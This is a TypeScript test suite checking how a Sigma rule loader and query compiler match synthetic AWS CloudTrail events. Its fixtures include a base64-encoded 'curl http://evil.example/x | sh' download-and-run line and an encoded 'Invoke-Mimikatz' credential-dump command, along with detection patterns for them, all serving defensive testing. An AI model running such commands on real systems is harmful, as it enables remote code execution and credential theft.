import { rulesFromSources } from '../load';
import { DetectionStore, rowsOf } from '../testing';

// Each case is a Sigma detection run through the loader and the query compiler against these
// CloudTrail records, parsed and stored as ingest stores them; it lists the records it matches.

const userData = Buffer.from('#!/bin/bash\ncurl http://evil.example/x | sh\n').toString('base64');
const encodedCommand = Buffer.from('Invoke-Mimikatz -Command dump', 'utf16le').toString('base64');
const withByteOrderMark = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Invoke-Mimikatz', 'utf16le')]).toString('base64');

function record(id: string, eventName: string, identity: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  return {
    eventVersion: '1.09',
    userIdentity: { accountId: '111122223333', ...identity },
    eventTime: `2024-03-01T10:00:0${id.slice(1)}Z`,
    eventSource: eventName === 'ConsoleLogin' ? 'signin.amazonaws.com' : 'iam.amazonaws.com',
    eventName,
    awsRegion: 'us-east-1',
    sourceIPAddress: '192.0.2.1',
    userAgent: 'Mozilla/5.0',
    requestParameters: null,
    responseElements: null,
    eventID: id,
    eventType: 'AwsApiCall',
    recipientAccountId: '111122223333',
    ...extra,
  };
}

const root = { type: 'Root', arn: 'arn:aws:iam::111122223333:root', principalId: '111122223333' };
const user = (name: string) => ({ type: 'IAMUser', arn: `arn:aws:iam::111122223333:user/${name}`, userName: name, principalId: `AIDA${name.toUpperCase()}` });
const role = (session: string) => ({
  type: 'AssumedRole',
  arn: `arn:aws:sts::111122223333:assumed-role/admin/${session}`,
  principalId: `AROAADMIN:${session}`,
});

const RECORDS = [
  record('e1', 'ConsoleLogin', root, {
    sourceIPAddress: '198.51.100.7',
    additionalEventData: { MFAUsed: 'No' },
    responseElements: { ConsoleLogin: 'Success' },
  }),
  record('e2', 'ConsoleLogin', user('alice'), {
    sourceIPAddress: '10.0.1.5',
    additionalEventData: { MFAUsed: 'Yes' },
    responseElements: { ConsoleLogin: 'Success' },
  }),
  record('e3', 'CreateAccessKey', role('bob'), {
    userAgent: 'aws-cli/2.15.0 Python/3.11',
    responseElements: { accessKey: { userName: 'carol', status: 'Active' } },
  }),
  record('e4', 'CreateAccessKey', user('carol'), { responseElements: { accessKey: { userName: 'carol', status: 'Active' } } }),
  record('e5', 'StopLogging', user('mallory'), {
    eventSource: 'cloudtrail.amazonaws.com',
    userAgent: 'S3 Browser 11.5.7 https://s3browser.com',
    sourceIPAddress: '2001:db8::5',
    errorCode: 'AccessDenied',
    errorMessage: 'line one\nline two',
  }),
  record('e6', 'PutBucketVersioning', role('ops'), {
    eventSource: 's3.amazonaws.com',
    userAgent: 'tool*star?q',
    sourceIPAddress: '203.0.113.9',
    requestParameters: { bucketName: 'prod-logs', VersioningConfiguration: { Status: 'Suspended' } },
  }),
  record('e7', 'RunInstances', role('ci'), {
    eventSource: 'ec2.amazonaws.com',
    userAgent: 'C:\\Tools\\agent.exe -verbose',
    sourceIPAddress: '10.20.0.4',
    requestParameters: { instanceType: 't2.micro', maxCount: 5, userData, encodedCommand, withByteOrderMark },
  }),
  record('e8', 'GetCallerIdentity', user('scanner'), { eventSource: 'sts.amazonaws.com', userAgent: 'TruffleHog', errorCode: null }),
  record('e9', 'RunInstances', role('ci'), {
    eventSource: 'ec2.amazonaws.com',
    userAgent: 'C:\\Tools\\agent.exe /verbose',
    requestParameters: { maxCount: 'many' },
  }),
];

const ALL = RECORDS.map((r) => r.eventID);
const RANGE = { from: Date.parse('2024-03-01T00:00:00Z'), to: Date.parse('2024-03-02T00:00:00Z') };

/** [name, detection (YAML, indented under `detection:`), the records it matches]. */
const CASES: Array<[string, string, string[]]> = [
  // Values, lists and maps
  ['equality ignores case', 'sel:\n  eventName: consolelogin\ncondition: sel', ['e1', 'e2']],
  ['cased respects case', 'sel:\n  eventName|cased: consolelogin\ncondition: sel', []],
  ['cased matches the exact text', 'sel:\n  eventName|cased: ConsoleLogin\ncondition: sel', ['e1', 'e2']],
  ['a list is any of its values', 'sel:\n  eventName: [StopLogging, RunInstances]\ncondition: sel', ['e5', 'e7', 'e9']],
  ['a map is all of its fields', 'sel:\n  eventName: ConsoleLogin\n  userIdentity.type: Root\ncondition: sel', ['e1']],
  ['a list of maps is any of them', 'sel:\n  - eventName: StopLogging\n  - userIdentity.type: Root\ncondition: sel', ['e1', 'e5']],
  ['a number value compares as a number', 'sel:\n  requestParameters.maxCount: 5\ncondition: sel', ['e7']],
  ['a boolean value compares as its text', 'sel:\n  readOnly: true\ncondition: sel', []],
  // Wildcards and escaping
  ['* is any run of characters', 'sel:\n  eventName: create*KEY\ncondition: sel', ['e3', 'e4']],
  ['? is exactly one character', 'sel:\n  eventName: Stop?ogging\ncondition: sel', ['e5']],
  ['? is not zero characters', 'sel:\n  eventName: Stop?gging\ncondition: sel', []],
  ['\\* and \\? are the characters', "sel:\n  userAgent: 'tool\\*star\\?q'\ncondition: sel", ['e6']],
  ['an escaped * does not match other text', "sel:\n  userAgent: 'tool\\*s'\ncondition: sel", []],
  ['a backslash before a letter is itself', "sel:\n  userAgent: 'C:\\Tools\\agent.exe -verbose'\ncondition: sel", ['e7']],
  ['a doubled backslash is one backslash', "sel:\n  userAgent: 'C:\\\\Tools\\\\agent.exe -verbose'\ncondition: sel", ['e7']],
  ['* alone means the field has a value', "sel:\n  errorCode: '*'\ncondition: sel", ['e5']],
  // String modifiers
  ['contains', 'sel:\n  userAgent|contains: BROWSER\ncondition: sel', ['e5']],
  ['startswith', 'sel:\n  userAgent|startswith: aws-cli\ncondition: sel', ['e3']],
  ['endswith', "sel:\n  sourceIPAddress|endswith: '.5'\ncondition: sel", ['e2']],
  ['contains keeps the wildcards inside', "sel:\n  userAgent|contains: 'agent?exe -'\ncondition: sel", ['e7']],
  ['contains|all needs every value', 'sel:\n  userAgent|contains|all: [aws, python]\ncondition: sel', ['e3']],
  ['contains|all fails when one is missing', 'sel:\n  userAgent|contains|all: [aws, ruby]\ncondition: sel', []],
  ['windash spells - as / and dashes', "sel:\n  userAgent|windash|contains: ' -verbose'\ncondition: sel", ['e7', 'e9']],
  ['without windash - is only -', "sel:\n  userAgent|contains: ' -verbose'\ncondition: sel", ['e7']],
  ['re is an RE2 expression, case-sensitive', "sel:\n  userIdentity.arn|re: ':assumed-role/[a-z]+/bob$'\ncondition: sel", ['e3']],
  ['re does not ignore case', "sel:\n  eventName|re: '^consolelogin$'\ncondition: sel", []],
  ['re|i ignores case', "sel:\n  eventName|re|i: '^consolelogin$'\ncondition: sel", ['e1', 'e2']],
  ['re|m anchors at lines', "sel:\n  errorMessage|re|m: '^line two$'\ncondition: sel", ['e5']],
  ['re without m anchors at the text', "sel:\n  errorMessage|re: '^line two$'\ncondition: sel", []],
  ['re|s lets . match a newline', "sel:\n  errorMessage|re|s: 'one.line'\ncondition: sel", ['e5']],
  ['re without s does not', "sel:\n  errorMessage|re: 'one.line'\ncondition: sel", []],
  ['base64 matches the encoded value', `sel:\n  requestParameters.userData|base64: "#!/bin/bash\\ncurl http://evil.example/x | sh\\n"\ncondition: sel`, ['e7']],
  ['base64offset|contains finds it at any offset', "sel:\n  requestParameters.userData|base64offset|contains: 'curl http://evil'\ncondition: sel", ['e7']],
  ['base64offset|contains misses other text', "sel:\n  requestParameters.userData|base64offset|contains: 'wget http://evil'\ncondition: sel", []],
  ['utf16le|base64offset finds UTF-16 text', "sel:\n  requestParameters.encodedCommand|utf16le|base64offset|contains: 'Mimikatz'\ncondition: sel", ['e7']],
  ['utf16 starts with a byte order mark', "sel:\n  requestParameters.withByteOrderMark|utf16|base64offset|contains: 'Invoke'\ncondition: sel", ['e7']],
  ['utf16 needs the byte order mark', "sel:\n  requestParameters.encodedCommand|utf16|base64offset|contains: 'Invoke'\ncondition: sel", []],
  ['wide is utf16le', "sel:\n  requestParameters.encodedCommand|wide|base64offset|contains: 'Command dump'\ncondition: sel", ['e7']],
  ['without utf16 the text is UTF-8', "sel:\n  requestParameters.encodedCommand|base64offset|contains: 'Mimikatz'\ncondition: sel", []],
  [
    'utf16be (ASCII in UTF-16BE is UTF-16LE a byte later)',
    "sel:\n  requestParameters.encodedCommand|utf16be|base64offset|contains: 'Mimikatz'\ncondition: sel",
    ['e7'],
  ],
  // Numbers, networks, fields
  ['gt', 'sel:\n  requestParameters.maxCount|gt: 4\ncondition: sel', ['e7']],
  ['gte', 'sel:\n  requestParameters.maxCount|gte: 5\ncondition: sel', ['e7']],
  ['lt (text that is no number never compares)', 'sel:\n  requestParameters.maxCount|lt: 5\ncondition: sel', []],
  ['lte', 'sel:\n  requestParameters.maxCount|lte: 5\ncondition: sel', ['e7']],
  ['cidr IPv4', 'sel:\n  sourceIPAddress|cidr: 10.0.0.0/8\ncondition: sel', ['e2', 'e7']],
  ['cidr list', 'sel:\n  sourceIPAddress|cidr: [198.51.100.0/24, 203.0.113.0/24]\ncondition: sel', ['e1', 'e6']],
  ['cidr IPv6', "sel:\n  sourceIPAddress|cidr: '2001:db8::/32'\ncondition: sel", ['e5']],
  ['exists: true', 'sel:\n  additionalEventData.MFAUsed|exists: true\ncondition: sel', ['e1', 'e2']],
  ['exists: false', 'sel:\n  errorCode|exists: false\ncondition: sel', ['e1', 'e2', 'e3', 'e4', 'e6', 'e7', 'e9']],
  ['exists on a whole object', 'sel:\n  responseElements.accessKey|exists: true\ncondition: sel', ['e3', 'e4']],
  ['null: missing or null', 'sel:\n  errorCode: null\ncondition: sel', ['e1', 'e2', 'e3', 'e4', 'e6', 'e7', 'e8', 'e9']],
  ["'' is the empty value (here the same as null)", "sel:\n  errorCode: ''\ncondition: sel", ['e1', 'e2', 'e3', 'e4', 'e6', 'e7', 'e8', 'e9']],
  ['fieldref compares two fields', 'sel:\n  responseElements.accessKey.userName|fieldref: userIdentity.userName\ncondition: sel', ['e4']],
  ['fieldref|endswith', 'sel:\n  userIdentity.arn|fieldref|endswith: responseElements.accessKey.userName\ncondition: sel', ['e4']],
  ['neq: different from every value', 'sel:\n  userIdentity.type: IAMUser\n  eventName|neq: [ConsoleLogin, StopLogging]\ncondition: sel', ['e4', 'e8']],
  ['a whole object reads as its JSON', 'sel:\n  requestParameters|contains: Suspended\ncondition: sel', ['e6']],
  ['a path inside an object', 'sel:\n  requestParameters.VersioningConfiguration.Status: suspended\ncondition: sel', ['e6']],
  // Keywords
  ['a keyword is anywhere in the event', 'kw:\n  - s3 browser\ncondition: kw', ['e5']],
  ['keywords are any of them', 'kw:\n  - TruffleHog\n  - S3 Browser\ncondition: kw', ['e5', 'e8']],
  ["'|all' keywords are all of them", "kw:\n  '|all':\n    - aws-cli\n    - carol\ncondition: kw", ['e3']],
  ['a keyword with a wildcard', "kw:\n  - 'truffle*og'\ncondition: kw", ['e8']],
  ['a single keyword', 'kw: mallory\ncondition: kw', ['e5']],
  ['a keyword regular expression', "kw:\n  '|re': 'Truffle[Hh]og'\ncondition: kw", ['e8']],
  ['a keyword regular expression respects case', "kw:\n  '|re': 'trufflehog'\ncondition: kw", []],
  // Conditions
  ['and not', 'sel:\n  eventName: CreateAccessKey\nfilter:\n  userIdentity.type: AssumedRole\ncondition: sel and not filter', ['e4']],
  ['or', 'a:\n  eventName: StopLogging\nb:\n  userIdentity.type: Root\ncondition: a or b', ['e1', 'e5']],
  ['not binds tighter than and', 'a:\n  eventName: ConsoleLogin\nb:\n  userIdentity.type: Root\ncondition: not a and b', []],
  [
    'and binds tighter than or',
    'a:\n  eventName: StopLogging\nb:\n  eventName: ConsoleLogin\nc:\n  userIdentity.type: Root\ncondition: a or b and c',
    ['e1', 'e5'],
  ],
  [
    'parentheses group',
    'a:\n  eventName: StopLogging\nb:\n  eventName: ConsoleLogin\nc:\n  userIdentity.type: Root\ncondition: (a or b) and not c',
    ['e2', 'e5'],
  ],
  [
    '1 of a pattern',
    'selection_a:\n  eventName: StopLogging\nselection_b:\n  userIdentity.type: Root\nother:\n  eventName: RunInstances\ncondition: 1 of selection_*',
    ['e1', 'e5'],
  ],
  ['all of a pattern', 'sel_name:\n  eventName: ConsoleLogin\nsel_mfa:\n  additionalEventData.MFAUsed: "no"\ncondition: all of sel_*', ['e1']],
  [
    '1 of them skips identifiers starting with _',
    'a:\n  eventName: StopLogging\n_b:\n  eventName: TruffleHog\nc:\n  userAgent: TruffleHog\ncondition: 1 of them',
    ['e5', 'e8'],
  ],
  ['any of is 1 of', 'selection_a:\n  eventName: StopLogging\nselection_b:\n  userIdentity.type: Root\ncondition: any of selection_*', ['e1', 'e5']],
  ['all of them', 'a:\n  eventName: ConsoleLogin\nb:\n  userIdentity.type: Root\ncondition: all of them', ['e1']],
  [
    '1 of with and not 1 of',
    'sel_a:\n  eventSource: ec2.amazonaws.com\nsel_b:\n  eventSource: sts.amazonaws.com\nfilter_x:\n  userAgent|contains: /verbose\ncondition: 1 of sel_* and not 1 of filter_*',
    ['e7', 'e8'],
  ],
  ['a list of conditions is any of them', 'a:\n  eventName: StopLogging\nb:\n  userIdentity.type: Root\ncondition:\n  - a\n  - b', ['e1', 'e5']],
  ['operators in capitals', 'a:\n  eventName: StopLogging\nb:\n  userIdentity.type: Root\ncondition: a OR b', ['e1', 'e5']],
];

function sigmaRule(detection: string): string {
  const indented = detection
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n');
  return `title: case\nid: case\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n${indented}\nlevel: high\n`;
}

describe('Sigma detections on stored CloudTrail events', () => {
  let db: DetectionStore;

  beforeAll(async () => {
    db = await DetectionStore.open();
    await db.replace(await rowsOf('cloudtrail', RECORDS));
  });
  afterAll(() => db.close());

  it('stores every sample record', async () => {
    const rows = await db.rows('CloudTrail | project eventID', RANGE);
    expect(rows.map((r) => r.eventID).sort()).toEqual(ALL);
  });

  it.each(CASES)('%s', async (_name, detection, expected) => {
    const { rules, errors } = rulesFromSources([{ file: 'case.yml', text: sigmaRule(detection) }]);
    expect(errors.map((e) => e.message)).toEqual([]);
    const rows = await db.rows(`${rules[0].events}\n| project eventID`, RANGE);
    expect(rows.map((r) => r.eventID).sort()).toEqual(expected);
  });

  it('counts the matches of a rule as one hit per group', async () => {
    const text = `${sigmaRule('sel:\n  eventName: [CreateAccessKey, RunInstances]\ncondition: sel')}group-by: [eventName]\n`;
    const { rules } = rulesFromSources([{ file: 'case.yml', text }]);
    const hits = await db.hits(rules[0], RANGE);
    expect(hits.map((h) => [h.keys.eventName, h.count, h.firstSeen, h.lastSeen]).sort()).toEqual([
      ['CreateAccessKey', 2, '2024-03-01T10:00:03.000Z', '2024-03-01T10:00:04.000Z'],
      ['RunInstances', 2, '2024-03-01T10:00:07.000Z', '2024-03-01T10:00:09.000Z'],
    ]);
  });

  it('makes a hit only when the count reaches the threshold', async () => {
    const rule = (threshold: number) =>
      rulesFromSources([{ file: 'case.yml', text: `${sigmaRule('sel:\n  eventName: RunInstances\ncondition: sel')}threshold: ${threshold}\n` }]).rules[0];
    expect(await db.hits(rule(2), RANGE)).toHaveLength(1);
    expect(await db.hits(rule(3), RANGE)).toHaveLength(0);
  });
});
